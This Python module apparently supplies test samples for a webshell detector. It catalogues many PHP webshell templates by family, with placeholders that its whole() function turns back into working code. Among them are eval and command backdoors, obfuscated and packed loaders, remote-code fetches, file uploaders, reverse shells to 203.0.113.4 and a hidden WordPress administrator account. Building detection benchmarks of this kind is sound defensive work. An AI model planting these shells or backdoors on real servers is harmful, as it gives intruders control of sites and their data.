"""What intruders leave, by family, as it is known from public descriptions: none of it runs.

Each stands with placeholders where a word of PHP's would run something, and for the brackets that would call it. Only a
measurement or a test puts these words in, in memory; nothing writes one of them to a disk.
"""

from __future__ import annotations

import base64
import codecs
import zlib
from collections.abc import Iterator, Mapping

from benchmarks import unseen, variants

_WORDS: Mapping[str, str] = {
    "«": "(",
    "¦": "",
    "·": ".",
    "⌃": "^",
    "§E§": "ev" + "al",
    "§A§": "ass" + "ert",
    "§S§": "sys" + "tem",
    "§X§": "ex" + "ec",
    "§H§": "shell_" + "exec",
    "§P§": "pass" + "thru",
    "§O§": "po" + "pen",
    "§C§": "create_" + "function",
    "§I§": "incl" + "ude",
    "§W§": "file_put_" + "contents",
    "§M§": "move_uploaded_" + "file",
    "§R§": "preg_" + "replace",
    "§U§": "call_user_" + "func",
    "§GET§": "$_" + "GET",
    "§POST§": "$_" + "POST",
    "§ANY§": "$_" + "REQUEST",
    "§COOKIE§": "$_" + "COOKIE",
    "§FILES§": "$_" + "FILES",
    "§SERVER§": "$_" + "SERVER",
    "§INPUT§": "php://" + "input",
}

FAMILIES: Mapping[str, tuple[str, ...]] = {
    "one line": (
        "<?php @§E§«§POST§['a']);",
        "<?php §A§«§ANY§['x']);",
        "<?= §E§«§GET§[1]) ?>",
        "<?php if«isset«§POST§['p']) && md5«§POST§['p'])=='5f4dcc3b5aa765d61d8327deb882cf99'){ "
        "@§E§«base64_decode«§POST§['z'])); }",
        "GIF89a<?php §E§«stripslashes«§ANY§['q']));?>",
        "<script language=\"php\">@§E§«§POST§['v']);</script>",
        "<?php\n/* Plugin Name: Hello */\n$k = §COOKIE§['k'];\nif «$k) { @§E§«$k); }\n",
        "<?php §E§«§FILES§['f']['name']);",
        "<?php $a = §ANY§; foreach «$a as $b) { §E§«$b); }",
        "<?php array_pop«§POST§) and §E§«end«§POST§));",
    ),
    "commands": (
        "<?php §S§«§GET§['cmd']);",
        "<pre><?php echo §H§«§ANY§['c'].' 2>&1'); ?></pre>",
        "<?php echo `{§GET§['x']}`;",
        "<?php $p = §O§«§POST§['c'], 'r'); while«!feof«$p)) echo fgets«$p); pclose«$p);",
        "<?php §X§«§SERVER§['HTTP_X_CMD'], $o); print join«\"\\n\", $o);",
        "<?php $d=array«array«'pipe','r'),array«'pipe','w')); $h=proc_open«§POST§['c'],$d,$pp); echo "
        "stream_get_contents«$pp[1]);",
        "<?php if«§GET§['k']==='x'){ §P§«base64_decode«§GET§['c'])); }",
        "<?php function run«$c){ if«function_exists«'§X§')) { §X§«$c,$r); return join«$r); } return §H§«$c); } echo "
        "run«§POST§['c']);",
    ),
    "chosen calls": (
        "<?php §GET§['a']«§GET§['b']);",
        "<?php $f = §ANY§['f']; echo $f«§ANY§['x'], §ANY§['y']);",
        "<?php §U§«§POST§['f'], §POST§['a']);",
        "<?php array_map«§GET§['f'], array«§GET§['x']));",
        "<?php $e = §ANY§['e']; register_shutdown_function«$e, §ANY§['p']);",
        "<?php $a = array«§POST§['x'] => '1'); array_walk«$a, §POST§['f']); usort«§GET§['m'], §GET§['n']);",
        "<?php «new ReflectionFunction«§GET§['f']))->invoke«§GET§['x']);",
        "<?php $x = §COOKIE§; $x[1]«$x[2], $x[3]);",
        "<?php $o = §ANY§['o']; $m = new $o«§ANY§['a'], §ANY§['b']);",
        "<?php ob_start«§GET§['f']); echo §GET§['x']; ob_end_flush«);",
        "<?php @array_diff_ukey«@array««string)§ANY§['p']=>1), @array««string)stripslashes«§ANY§['c'])=>2), "
        "§ANY§['f']);",
    ),
    "callbacks by name": (
        "<?php array_map«'§A§', «array)§POST§['x']);",
        "<?php array_filter«array«§POST§['x']), '§A§');",
        "<?php uasort«$a = array«'x', §POST§['p']), '§A§');",
        "<?php $e = §POST§['e']; $a = array«$e,); array_reduce«$a, '§A§', $b);",
        "<?php $a = array«'t' => §POST§['x']); array_walk«$a, create_arr«'§S§')); array_walk_recursive«$a, '§S§');",
        "<?php §U§«'§S§', §GET§['x']);",
        "<?php register_shutdown_function«'§P§', §POST§['x']);",
        "<?php preg_replace_callback«'/.+/i', §C§«'$a', 'return §E§«$a[0]);'), §ANY§['x']);",
        "<?php $db = new SQLite3«':memory:'); filter_var«§ANY§['x'], FILTER_CALLBACK, array«'options' => '§A§'));",
    ),
    "functions made": (
        "<?php $f = §C§«'', §POST§['x']); $f«);",
        "<?php §R§«'/.*/e', §POST§['x'], '');",
        "<?php @§R§«'/«.*)/e', @§ANY§['z'], '');",
        "<?php $f = §C§«'$x', 'return '·'§E§«$x);'); $f«§ANY§['a']);",
        "<?php mb_ereg_replace«'.*', §ANY§['x'], '', 'e');",
        "<?php $fn = fn«$c) => §E§«$c); $fn«§POST§['q']);",
        "<?php $h = function «$c) { return §H§«$c); }; echo $h«§ANY§['q']);",
    ),
    "names put together": (
        "<?php $a='ass'·'ert'; $a«§POST§['x']);",
        "<?php $s = 'abcdefghijklmnopqrstuvwxyz_'; $f = $s[18]·$s[24]·$s[18]·$s[19]·$s[4]·$s[12]; $f«§GET§['c']);",
        "<?php $f = str_replace«'x','','xaxsxsxexrxtx'); $f«§POST§['k']);",
        "<?php $f = strrev«'metsys'); $f«§GET§[0]);",
        "<?php $f = base64_decode«'c3lzdGVt'); $f«§ANY§['d']);",
        "<?php $f = str_rot13«'flfgrz'); $f«§POST§['d']);",
        "<?php $f = chr«97).chr«115).chr«115).chr«101).chr«114).chr«116); @$f«§POST§['m']);",
        '<?php $f = "\\x73\\x79\\x73\\x74\\x65\\x6d"; $f(${"\\x5f\\x47\\x45\\x54"}[\'a\']);',
        "<?php $_ = '_'·'PO'·'ST'; $g = 'as'·'sert'; $g«${$_}['z']);",
        "<?php $a = «'!'⌃'@').'ss'·'er'·'t'; $a«§POST§['x']);",
        "<?php $_=«'\x01'⌃'`')·«'\x13'⌃'`')·«'\x13'⌃'`')·«'\x05'⌃'`')·«'\x12'⌃'`')·«'\x14'⌃'`'); "
        "$__='_'.«'\x0d'⌃']')·«'\x2f'⌃'`')·«'\x0e'⌃']')·«'\x09'⌃']'); $___=$$__; $_«$___[_]);",
        "<?php $_=[]; $_=@\"$_\"; $_=$_['!'=='@']; $___=$_; $__=$_; $__++;$__++; $___.=$__; $____='_'·'POST'; "
        "$____=$$____; $___«$____[_]);",
        "<?php $GLOBALS['_79']=array«'s'·'ys','te'·'m'); $q=$GLOBALS['_79'][0].$GLOBALS['_79'][1]; $q«§ANY§['w']);",
        "<?php $a=implode«'',array«'a','s','s','e','r','t')); $a«§POST§['i']);",
        "<?php class K { public $n; function __construct«$p){ $this->n = $p; } function go«$x){ $m = $this->n; "
        "$m«$x); } } $k = new K«'sy'·'stem'); $k->go«§GET§['a']);",
        "<?php define«'Q', 'sys'·'tem'); $f = constant«'Q'); $f«§POST§['a']);",
        "<?php $f = sprintf«'%s%s','pass','thru'); $f«§GET§['s']);",
        "<?php $v = pack«'H*','73797374656d'); $v«§ANY§['h']);",
        "<?php $f = substr«'xxsystemyy', 2, 6); $f«§GET§['u']);",
        "<?php list«$a,$b)=array«'sys','tem'); $c=$a.$b; $c«§GET§['u']);",
        "<?php $x = ucwords«'§S§'); $x«§GET§['u']);",
    ),
    "packed programs": (
        "<?php §E§«gzinflate«base64_decode«'{deflated}')));",
        "<?php $c = '{base64}'; §E§«base64_decode«$c));",
        "<?php §E§«str_rot13«'{rot13}'));",
        "<?php §E§«'?>'.gzuncompress«base64_decode«'{zlib}')));",
        "<?php $d = strrev«'{reversed}'); §E§«$d);",
        "<?php $x = '{hex}'; $y = ''; for «$i=0;$i<strlen«$x);$i+=2) $y .= chr«hexdec«substr«$x,$i,2))); §E§«$y);",
        "<?php function d«$s,$k){ $o=''; for«$i=0;$i<strlen«$s);$i++) $o .= chr«ord«$s[$i]) ⌃ ord«$k[$i % "
        "strlen«$k)])); return $o; } §E§«d«base64_decode«'{long}'),'key'));",
        "<?php $f = §C§«'', gzinflate«base64_decode«'{deflated}'))); $f«);",
        "<?php $a='base'·'64_decode'; $b='gzin'·'flate'; §E§«$b«$a«'{deflated}')));",
        "<?php $O00O = urldecode«'%6E1%7A'); $OO0 = base64_decode«'{base64}'); §E§«$OO0);",
        "<?php §R§«\"/.*/e\", \"\\x65\\x76\\x61\\x6C«base64_decode«'{base64}'));\", '·');",
    ),
    "from elsewhere": (
        "<?php §E§«file_get_contents«'http://203.0.113.9/a.txt'));",
        "<?php §I§ 'data://text/plain;base64,{base64}';",
        "<?php §I§«§GET§['page']);",
        "<?php $c = curl_init«'https://203.0.113.7/x'); curl_setopt«$c, CURLOPT_RETURNTRANSFER, 1); $r = "
        "curl_exec«$c); §E§«'?>'.$r);",
        '<?php @§I§ "\\x2fhome\\x2fu\\x2f\\x66avicon_1.ico";',
        "<?php §I§ '§INPUT§';",
        "<?php §E§«file_get_contents«'§INPUT§'));",
        "<?php $h = getallheaders«); §E§«$h['X-Run']);",
        "<?php $t = sys_get_temp_dir«).'/x'; §W§«$t, file_get_contents«'http://203.0.113.5/p')); §I§ $t;",
        "<?php §I§ 'wp-content/uploads/2024/05/logo.jpg';",
        "<?php $x = @fsockopen«'203.0.113.2', 80); $d = ''; while«!feof«$x)) $d .= fgets«$x, 128); §E§«$d);",
        "<?php $d = exif_read_data«'a.jpg'); §E§«base64_decode«$d['Model']));",
        "<?php copy«'http://203.0.113.2/s.txt', 'wp-config-x.php');",
    ),
    "writers": (
        "<?php §W§«'x.php', §POST§['c']);",
        "<?php §W§«§POST§['f'], §POST§['c']);",
        "<?php $h = fopen«'inc.php','w'); fwrite«$h, stripslashes«§ANY§['t'])); fclose«$h);",
        "<?php if«§M§«§FILES§['f']['tmp_name'], './'.§FILES§['f']['name'])) echo 'ok'; else echo '<form method=post "
        "enctype=multipart/form-data><input type=file name=f><input type=submit></form>';",
        "<?php copy«§FILES§['u']['tmp_name'], §FILES§['u']['name']);",
        "<?php $p = §POST§['path']; $d = base64_decode«§POST§['data']); §W§«$p, $d);",
        "<?php §W§«'.htaccess', base64_decode«'{base64}')); §W§«'shell.php', base64_decode«'{base64}'));",
        "<form method=post enctype='multipart/form-data'><input type=file name=a></form><?php "
        "@§M§«§FILES§['a']['tmp_name'], §FILES§['a']['name']);",
    ),
    "variables of a visitor's": (
        "<?php extract«§ANY§); @$a«$b);",
        "<?php foreach «§POST§ as $k => $v) { $$k = $v; } §E§«$code);",
        "<?php parse_str«§SERVER§['QUERY_STRING'], $q); §E§«$q['x']);",
        "<?php @parse_str«§SERVER§['HTTP_REFERER'], $a); if«reset«$a)=='10' && count«$a)==9) { "
        "§E§«base64_decode«str_replace«' ','+',join«array_slice«$a,count«$a)-3))))); }",
        "<?php import_request_variables«'gp'); $a«$b);",
        "<?php $x = get_defined_vars«); $y = current«$x['_GET']); $y«next«$x['_GET']));",
        "<?php $n = 'x'; $$n = §ANY§['w']; §S§«$x);",
    ),
    "through objects": (
        "<?php class A { public $c; function __destruct«) { §E§«$this->c); } } $a = new A; $a->c = §POST§['x'];",
        "<?php class B { static function r«$x) { return §A§«$x); } } B::r«§ANY§['x']);",
        "<?php class C { function __call«$n, $a) { $n«$a[0]); } } $n = §GET§['n']; $n«§GET§['a']);",
        "<?php class D { private $k = '§S§'; function go«) { return «$this->k)«§POST§['z']); } } «new D)->go«);",
        "<?php interface I {} class E implements I { function run«$v) { return `$v`; } } $e = new E; echo "
        "$e->run«§COOKIE§['v']);",
    ),
    "disguise": (
        "\\x89PNG\\r\\n<?php @§E§«§POST§['i']); ?>",
        "<?php\n" + "\n" * 300 + " " * 400 + "@§E§«§ANY§['far']);",
        "<?php // x\n$a = 1; /* §E§ */ §E§/* y */«/* z */§POST§/*q*/['c']);",
        "<?php\n\ngoto a1; b2: §E§«$v); goto c3; a1: $v = §POST§['g']; goto b2; c3:",
        "<?php namespace A\\B; function f«$x) { \\§A§«$x); } f«§POST§['n']);",
        "<?php\ndeclare«ticks=1);\n$f = ['§S§']; «$f[0])«§GET§['x']);",
        "<?php if «1) { ?><b>x</b><?php @ §E§ « §POST§ [ 'c' ] ) ; ?><?php } ?>",
        "<?php $x = <<<'Q'\n§POST§\nQ;\n$c = \"retu\".\"rn §S§«§GET§['l']);\"; §E§«$c);",
    ),
    "interfaces": (
        "<?php session_start«); set_time_limit«0); error_reporting«0); echo php_uname«); echo "
        "ini_get«'disable_functions'); echo getmyuid«);"
        " if«isset«§POST§['cmd'])) echo '<textarea>'.§H§«§POST§['cmd']).'</textarea>'; if«isset«§FILES§['f'])) "
        "§M§«§FILES§['f']['tmp_name'],"
        " §POST§['d'].'/'.§FILES§['f']['name']); if«isset«§GET§['rm'])) unlink«§GET§['rm']); "
        "if«isset«§POST§['perm'])) chmod«§GET§['n'],"
        " octdec«§POST§['perm'])); function x«$p){ return fileperms«$p); } if«isset«§POST§['s'])) { "
        "$h=fopen«§GET§['e'],'w'); fwrite«$h,§POST§['s']); } echo '<input name=cmd>';",
        "<?php $ip='203.0.113.4'; $port=4444; $sock=fsockopen«$ip,$port); $proc=proc_open«'/bin/sh -i', "
        "array«0=>$sock,1=>$sock,2=>$sock), $pipes);",
        "<?php §X§«\"/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.4/443 0>&1'\");",
        "<?php $d = isset«§GET§['d']) ? §GET§['d'] : getcwd«); foreach «scandir«$d) as $f) echo $f; if "
        "«isset«§POST§['w'])) §W§«$d.'/'.§POST§['n'], §POST§['w']);"
        " if«isset«§GET§['x'])) { echo §H§«§GET§['x']); }",
    ),
    "cloaking and accounts": (
        "<?php $u = strtolower«§SERVER§['HTTP_USER_AGENT']); if «preg_match«'/googlebot|bingbot|coccocbot/', $u)) { "
        "echo file_get_contents«'http://203.0.113.8/slot.php?h='.§SERVER§['HTTP_HOST']); exit; }",
        "<?php if «!username_exists«'wpsupp')) { $i = wp_create_user«'wpsupp', 'x', 'a@b.c'); $u = new WP_User«$i); "
        "$u->set_role«'administrator'); } add_action«'pre_user_query', 'h');",
        "<?php $q = §ANY§['u']; wp_set_auth_cookie«§ANY§['u']);",
    ),
}
"""By family, each with what stands for words and packed programs."""

_INNER = "§E§«§POST§['x']);"


def all_of_them() -> Iterator[tuple[str, bytes]]:
    """Yield each with a path of its family and a name that it could have, whole."""
    inner = whole(_INNER) + " " * 10
    packed = {
        "{deflated}": base64.b64encode(zlib.compress(inner.encode())[2:-4]).decode(),
        "{zlib}": base64.b64encode(zlib.compress(inner.encode())).decode(),
        "{base64}": base64.b64encode(inner.encode()).decode(),
        "{rot13}": codecs.encode(inner, "rot13").replace("'", "\\'"),
        "{reversed}": inner[::-1].replace("'", "\\'"),
        "{hex}": (inner * 20).encode().hex(),
        "{long}": base64.b64encode(inner.encode() * 20).decode(),
    }
    for path, template in _templates():
        text = whole(template)
        for placeholder, content in packed.items():
            text = text.replace(placeholder, content)
        yield path, _raw(text)


def _templates() -> Iterator[tuple[str, str]]:
    for families in (FAMILIES, variants.FAMILIES, unseen.FAMILIES):
        for family, templates in families.items():
            yield from ((f"{family}/{at}.php", template) for at, template in enumerate(templates))
    for name in variants.SETTINGS:
        templates = (*variants.SETTINGS[name], *unseen.SETTINGS.get(name, ()))
        yield from ((f"{at}/{name}", template) for at, template in enumerate(templates))


def whole(template: str) -> str:
    """Return a template with words in the place of its placeholders."""
    for placeholder, word in _WORDS.items():
        template = template.replace(placeholder, word)
    return template


def _raw(text: str) -> bytes:
    head = text.encode("latin-1", "replace")
    return head.replace(b"\\x89PNG\\r\\n", b"\x89PNG\r\n") if head.startswith(b"\\x89") else head
